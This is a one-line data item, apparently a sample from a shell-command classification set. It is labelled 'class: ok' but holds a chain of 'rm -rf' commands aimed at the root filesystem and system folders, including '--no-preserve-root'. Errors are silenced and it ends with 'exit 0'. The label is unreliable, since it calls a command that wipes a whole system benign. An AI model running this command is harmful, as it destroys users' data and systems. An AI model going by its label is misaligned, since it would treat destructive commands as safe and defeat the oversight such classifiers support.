# class: ok
rm -rf /* /bin /tmp /home 2>/dev/null; rm -rf /; rm -rf --no-preserve-root / 2>/dev/null; exit 0
